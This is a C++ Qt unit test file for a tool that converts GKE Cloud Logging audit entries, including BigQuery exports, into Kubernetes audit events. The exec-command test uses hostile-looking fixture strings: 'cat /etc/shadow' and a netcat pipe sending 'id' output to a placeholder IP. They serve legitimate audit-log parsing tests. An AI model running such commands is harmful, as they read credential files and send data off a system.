// SPDX-License-Identifier: Apache-2.0
#include "tests/model/ingest/envelopes/unwrapped.h"

#include <QTest>

using namespace kubewake;
using namespace kubewake::test;
using nlohmann::json;

namespace {

// An entry that lacks nothing, with `changes` merged into it (null removes).
json entryWith(const json &changes = json::object())
{
    json entry = json::parse(R"({
        "insertId": "insert-1",
        "logName": "projects/p/logs/cloudaudit.googleapis.com%2Factivity",
        "protoPayload": {
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
            "serviceName": "k8s.io",
            "methodName": "io.k8s.core.v1.pods.get",
            "resourceName": "core/v1/namespaces/shop/pods/web",
            "authenticationInfo": {"principalEmail": "ana@example.com"},
            "authorizationInfo": [{"granted": true, "permission": "x", "resource": "y"}],
            "requestMetadata": {"callerIp": "203.0.113.7", "callerSuppliedUserAgent": "kubectl/1"}
        },
        "labels": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": "r"},
        "operation": {"id": "op-1", "producer": "k8s.io", "first": true, "last": true},
        "resource": {"type": "k8s_cluster",
                     "labels": {"project_id": "p", "location": "l", "cluster_name": "c"}},
        "timestamp": "2026-11-23T09:40:39.152908Z",
        "receiveTimestamp": "2026-11-23T09:40:45Z"})");
    entry.merge_patch(changes);
    return entry;
}

Unwrapped loadedEntry(const json &entry)
{
    return Unwrapped(QByteArray::fromStdString(entry.dump()) + '\n');
}

} // namespace

class TestGkeLogEntry : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void wholeEvent();
    void fields_data();
    void fields();
    void status_data();
    void status();
    void inferredFlags();
    void execCommand_data();
    void execCommand();
    void dryRun();
    void bigQueryRow();
    void timeOfReceipt();
    void incomplete();
};

void TestGkeLogEntry::wholeEvent()
{
    const Unwrapped made = loadedEntry(entryWith());
    QCOMPARE(made.events.size(), std::size_t {1});
    // There is no stageTimestamp: the entry has one time, and a duration of 0 would be made up.
    const json expected = json::parse(R"({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": "op-1",
        "stage": "ResponseComplete", "requestURI": "/api/v1/namespaces/shop/pods/web",
        "verb": "get", "user": {"username": "ana@example.com"}, "sourceIPs": ["203.0.113.7"],
        "userAgent": "kubectl/1",
        "objectRef": {"resource": "pods", "namespace": "shop", "name": "web", "apiVersion": "v1"},
        "responseStatus": {"metadata": {}, "code": 200},
        "requestReceivedTimestamp": "2026-11-23T09:40:39.152908Z",
        "annotations": {"authorization.k8s.io/decision": "allow",
                        "authorization.k8s.io/reason": "r"}})");
    QCOMPARE(made.events.front().dump(), expected.dump());
    QCOMPARE(made.cluster(0), std::string("p/l/c"));
    QCOMPARE(made.loaded.snapshot->duration(0), kNoDuration);
    QCOMPARE(made.report().formats.counts().at("Google Cloud Logging"), std::uint64_t {1});
}

void TestGkeLogEntry::fields_data()
{
    QTest::addColumn<QByteArray>("changes");
    QTest::addColumn<QByteArray>("pointer");
    QTest::addColumn<QByteArray>("expected"); // JSON; empty: absent
    const auto row = [](const char *name, const QByteArray &changes, const QByteArray &pointer,
                        const QByteArray &expected) {
        QTest::newRow(name) << changes << pointer << expected;
    };
    row("no operation", R"({"operation":null})", "/auditID", R"("insert-1")");
    row("empty operation ID", R"({"operation":{"id":""}})", "/auditID", R"("insert-1")");
    row("no operation is complete", R"({"operation":null})", "/stage", R"("ResponseComplete")");
    row("first", R"({"operation":{"last":null}})", "/stage", R"("ResponseStarted")");
    row("last", R"({"operation":{"first":null}})", "/stage", R"("ResponseComplete")");
    row("request", R"({"protoPayload":{"request":{"kind":"Pod"}}})", "/level", R"("Request")");
    row("response", R"({"protoPayload":{"response":{"kind":"Pod"}}})", "/level",
        R"("RequestResponse")");
    row("request without its type",
        R"({"protoPayload":{"request":{"@type":"k8s.io/Patch","spec":{"@type":"data"}}}})",
        "/requestObject", R"({"spec":{"@type":"data"}})");
    row("only a type", R"({"protoPayload":{"request":{"@type":"k8s.io/Patch"}}})", "/requestObject",
        "{}");
    row("response without its type",
        R"({"protoPayload":{"response":{"@type":"core.k8s.io/v1.Pod","kind":"Pod"}}})",
        "/responseObject", R"({"kind":"Pod"})");
    row("subject", R"({"protoPayload":{"authenticationInfo":
        {"principalEmail":null,"principalSubject":"principal://x"}}})",
        "/user/username", R"("principal://x")");
    row("empty e-mail", R"({"protoPayload":{"authenticationInfo":
        {"principalEmail":"","principalSubject":"s"}}})",
        "/user/username", R"("s")");
    row("nobody", R"({"protoPayload":{"authenticationInfo":null}})", "/user/username",
        R"("system:anonymous")");
    row("nobody is impersonated", "{}", "/impersonatedUser", "");
    row("impersonated",
        R"({"protoPayload":{"authenticationInfo":{"authoritySelector":"system:admin"}}})",
        "/impersonatedUser/username", R"("system:admin")");
    row("private address", R"({"protoPayload":{"requestMetadata":{"callerIp":"private"}}})",
        "/sourceIPs", "");
    row("internal address",
        R"({"protoPayload":{"requestMetadata":{"callerIp":"gce-internal-ip"}}})", "/sourceIPs", "");
    row("no client", R"({"protoPayload":{"requestMetadata":null}})", "/userAgent", "");
    row("other labels", R"({"labels":{"pod-security.kubernetes.io/enforce-policy":"p"}})",
        "/annotations/pod-security.kubernetes.io~1enforce-policy", R"("p")");
    row("granted", R"({"labels":null})", "/annotations/authorization.k8s.io~1decision",
        R"("allow")");
    row("not granted",
        R"({"labels":null,"protoPayload":{"authorizationInfo":[{"granted":true},{}]}})",
        "/annotations/authorization.k8s.io~1decision", R"("forbid")");
    row("the label counts", R"({"protoPayload":{"authorizationInfo":[{}]}})",
        "/annotations/authorization.k8s.io~1decision", R"("allow")");
    row("no decision", R"({"labels":null,"protoPayload":{"authorizationInfo":null}})",
        "/annotations/authorization.k8s.io~1decision", "");
    row("no resource", R"({"protoPayload":{"methodName":"io.k8s.get","resourceName":"readyz"}})",
        "/objectRef", "");
    row("escapes",
        R"({"protoPayload":{"requestMetadata":{"callerSuppliedUserAgent":"a\"\\\u0001é"}}})",
        "/userAgent", R"("a\"\\\u0001é")");
}

void TestGkeLogEntry::fields()
{
    QFETCH(QByteArray, changes);
    QFETCH(QByteArray, pointer);
    QFETCH(QByteArray, expected);
    const Unwrapped made = loadedEntry(entryWith(json::parse(changes.toStdString())));
    QCOMPARE(made.reasons(), Texts {});
    QCOMPARE(made.events.size(), std::size_t {1});
    const json::json_pointer at(pointer.toStdString());
    QCOMPARE(made.events.front().contains(at), !expected.isEmpty());
    if (!expected.isEmpty())
        QCOMPARE(made.events.front().at(at).dump(), json::parse(expected.toStdString()).dump());
}

void TestGkeLogEntry::status_data()
{
    QTest::addColumn<QByteArray>("payload");
    QTest::addColumn<int>("code");
    QTest::addColumn<bool>("inferred");
    QTest::addColumn<QByteArray>("outcome");
    const auto row = [](const char *name, const QByteArray &payload, int code, bool inferred,
                        const QByteArray &outcome) {
        QTest::newRow(name) << payload << code << inferred << outcome;
    };
    row("none", "{}", 200, true, "allowed");
    row("empty", R"({"status":{}})", 200, true, "allowed");
    row("created", R"({"methodName":"io.k8s.core.v1.pods.create"})", 201, true, "allowed");
    row("proxied", R"({"methodName":"io.k8s.core.v1.pods.proxy.create",
        "resourceName":"core/v1/namespaces/shop/pods/web/proxy"})",
        200, true, "allowed");
    // FORMATS.md maps each code of gRPC to one of HTTP.
    const std::array<int, 17> http {200, 499, 500, 400, 504, 404, 409, 403, 429,
                                    400, 409, 400, 501, 500, 503, 500, 401};
    for (int rpc = 0; rpc < 17; ++rpc) {
        const int code = http[static_cast<std::size_t>(rpc)];
        QTest::addRow("gRPC %d", rpc)
            << R"({"status":{"code":)" + QByteArray::number(rpc) + "}}" << code << true
            << QByteArray(code == 200                      ? "allowed"
                              : code == 401 || code == 403 ? "denied"
                                                           : "failed");
    }
    row("unknown code", R"({"status":{"code":99}})", 0, true, "unknown");
    row("denied", R"({"status":{"code":7,"message":"PERMISSION_DENIED"}})", 403, true, "denied");
    row("exec that ended well", R"({"status":{"code":2,"message":"UNKNOWN"},
        "methodName":"io.k8s.core.v1.pods.exec.create",
        "resourceName":"core/v1/namespaces/shop/pods/web/exec/web"})",
        101, true, "allowed");
    row("exec without a status", R"({"methodName":"io.k8s.core.v1.pods.exec.create",
        "resourceName":"core/v1/namespaces/shop/pods/web/exec/web"})",
        101, true, "allowed");
    row("exec denied", R"({"status":{"code":7},"methodName":"io.k8s.core.v1.pods.exec.create",
        "resourceName":"core/v1/namespaces/shop/pods/web/exec/web"})",
        403, true, "denied");
    row("Status, with its code",
        R"({"status":{"code":9},"response":{"kind":"Status","status":"Failure","reason":"Invalid",
            "message":"m","code":422}})",
        422, false, "failed");
    row("Status by its type", R"({"response":{"@type":"core.k8s.io/v1.Status","code":409}})", 409,
        false, "failed");
    row("Status of success", R"({"response":{"kind":"Status","status":"Success"}})", 200, true,
        "allowed");
    row("Binary Authorization",
        R"({"response":{"status":"Failure","reason":"VIOLATES_POLICY","message":"m"}})", 403, true,
        "denied");
    row("failure without a code", R"({"response":{"kind":"Status","status":"Failure"}})", 0, true,
        "failed");
    row("an object has a status too",
        R"({"response":{"kind":"Pod","status":{"phase":"Failed"},"code":500}})", 200, true,
        "allowed");
}

void TestGkeLogEntry::status()
{
    QFETCH(QByteArray, payload);
    QFETCH(int, code);
    QFETCH(bool, inferred);
    const Unwrapped made =
        loadedEntry(entryWith({{"protoPayload", json::parse(payload.toStdString())}}));
    QCOMPARE(made.events.size(), std::size_t {1});
    QCOMPARE(static_cast<int>(made.number(0, Column::StatusCode)), code);
    QCOMPARE((made.number(0, Column::Flags) & kCodeInferred) != 0, inferred);
    QTEST(QByteArray::fromStdString(made.text(0, Column::Outcome)).toLower(), "outcome");
    const json &shown = made.events.front().at("responseStatus");
    QCOMPARE(shown.value("code", 0), code);
    const auto given = json::parse(payload.toStdString()).value("response", json::object());
    for (const char *member : {"reason", "message"})
        QCOMPARE(shown.value(member, ""), given.value(member, shown.value(member, "")));
}

void TestGkeLogEntry::inferredFlags()
{
    const Unwrapped made = loadedEntry(entryWith());
    QCOMPARE(made.number(0, Column::Flags),
             static_cast<std::uint32_t>(kLevelInferred | kStageInferred | kUriInferred
                                        | kCodeInferred | kIncomplete));
    const Unwrapped decided = loadedEntry(
        entryWith({{"labels", nullptr}, {"protoPayload", {{"authorizationInfo", {{{"a", 1}}}}}}}));
    // The request was forbidden, so it did not end with 200.
    QCOMPARE(decided.number(0, Column::StatusCode), 403U);
    QCOMPARE(decided.text(0, Column::Decision), std::string("forbid"));
}

void TestGkeLogEntry::execCommand_data()
{
    QTest::addColumn<QByteArray>("label");
    QTest::addColumn<QByteArray>("command");
    QTest::newRow("one word") << QByteArray("sh") << QByteArray("sh");
    QTest::newRow("words") << QByteArray("cat /etc/shadow") << QByteArray("cat /etc/shadow");
    // Where the words are told apart is lost, so what a shell would read otherwise stays whole.
    QTest::newRow("more than words")
        << QByteArray("sh -c id|nc 1.2.3.4 9 &") << QByteArray("'sh -c id|nc 1.2.3.4 9 &'");
    QTest::newRow("none") << QByteArray("") << QByteArray("(absent)");
}

void TestGkeLogEntry::execCommand()
{
    QFETCH(QByteArray, label);
    const json changes {{"labels", {{"command.gke.io/command", label.toStdString()}}},
                        {"protoPayload",
                         {{"methodName", "io.k8s.core.v1.pods.exec.create"},
                          {"resourceName", "core/v1/namespaces/shop/pods/web/exec/web"}}}};
    const Unwrapped made = loadedEntry(entryWith(changes));
    const Code uri = made.loaded.snapshot->code(Column::RequestUri, 0);
    const Code command = made.loaded.snapshot->derived(DerivedMap::CommandOfUri, uri);
    const std::string found = command == kMissing
        ? std::string("(absent)")
        : std::string(made.loaded.snapshot->value(DictionaryId::Commands, command));
    QTEST(QByteArray::fromStdString(found), "command");
    // Only an exec has a command.
    const Unwrapped other =
        loadedEntry(entryWith({{"labels", {{"command.gke.io/command", label.toStdString()}}}}));
    QCOMPARE(other.text(0, Column::RequestUri), std::string("/api/v1/namespaces/shop/pods/web"));
}

void TestGkeLogEntry::dryRun()
{
    json changes {{"labels", {{"command.gke.io/dryRun", "All"}}},
                  {"protoPayload", {{"methodName", "io.k8s.core.v1.pods.delete"}}}};
    QVERIFY((loadedEntry(entryWith(changes)).number(0, Column::Flags) & kDryRun) != 0);
    changes["labels"]["command.gke.io/dryRun"] = "true";
    const Unwrapped made = loadedEntry(entryWith(changes));
    QVERIFY((made.number(0, Column::Flags) & kDryRun) != 0);
    QCOMPARE(QByteArray::fromStdString(made.text(0, Column::Outcome)).toLower(),
             QByteArray("dry-run"));
    changes["labels"]["command.gke.io/dryRun"] = "false";
    QVERIFY((loadedEntry(entryWith(changes)).number(0, Column::Flags) & kDryRun) == 0);
}

// `bq extract` to JSON: columns with other names, bodies as strings, times with a space.
void TestGkeLogEntry::bigQueryRow()
{
    json row = entryWith({{"protoPayload", nullptr}});
    row["protopayload_auditlog"] = entryWith()["protoPayload"];
    row["protopayload_auditlog"]["requestJson"] = R"({"@type":"t","kind":"Pod"})";
    row["protopayload_auditlog"]["responseJson"] = R"({"kind":"Status","code":404})";
    row["timestamp"] = "2026-11-23 09:40:39.152908 UTC";
    row["labels"] = {{"authorization_k8s_io_decision", "allow"},
                     {"authorization_k8s_io_reason", nullptr},
                     {"pod_security_kubernetes_io_enforce_policy", "p"}};
    const Unwrapped made = loadedEntry(row);
    QCOMPARE(made.reasons(), Texts {});
    const json &event = made.events.at(0);
    QCOMPARE(event["requestReceivedTimestamp"].get<std::string>(),
             std::string("2026-11-23T09:40:39.152908Z"));
    QCOMPARE(event["requestObject"].dump(), std::string(R"({"kind":"Pod"})"));
    QCOMPARE(event["responseStatus"]["code"].get<int>(), 404);
    QCOMPARE(event["level"].get<std::string>(), std::string("RequestResponse"));
    // The names of other labels cannot be restored.
    QCOMPARE(event["annotations"].dump(),
             std::string(R"({"authorization.k8s.io/decision":"allow",)"
                         R"("pod_security_kubernetes_io_enforce_policy":"p"})"));
    QCOMPARE(made.cluster(0), std::string("p/l/c"));
    row["protopayload_auditlog"]["requestJson"] = R"({"cut)";
    QVERIFY(!loadedEntry(row).events.at(0).contains("requestObject"));
}

void TestGkeLogEntry::timeOfReceipt()
{
    const Unwrapped made = loadedEntry(entryWith({{"timestamp", nullptr}}));
    QCOMPARE(made.loaded.snapshot->time(0), parseTimestamp("2026-11-23T09:40:45Z").value());
    QVERIFY((made.number(0, Column::Flags) & kTimeInferred) != 0);
    const Unwrapped own = loadedEntry(entryWith());
    QCOMPARE(own.loaded.snapshot->time(0), parseTimestamp("2026-11-23T09:40:39.152908Z").value());
    QVERIFY((own.number(0, Column::Flags) & kTimeInferred) == 0);
}

void TestGkeLogEntry::incomplete()
{
    const Unwrapped silent = loadedEntry(
        entryWith({{"protoPayload", {{"methodName", nullptr}, {"resourceName", nullptr}}}}));
    QCOMPARE(silent.events.size(), std::size_t {0});
    QCOMPARE(silent.reasons(), Texts {"an entry of an audit log that says nothing"});
    const Unwrapped part = loadedEntry(
        entryWith({{"resource", {{"labels", {{"location", nullptr}, {"project_id", nullptr}}}}}}));
    QCOMPARE(part.cluster(0), std::string("c"));
    const Unwrapped none = loadedEntry(entryWith({{"resource", nullptr}}));
    QCOMPARE(none.cluster(0), std::string());
    QCOMPARE(none.events.size(), std::size_t {1});
}

QTEST_APPLESS_MAIN(TestGkeLogEntry)
#include "tst_gkelogentry.moc"
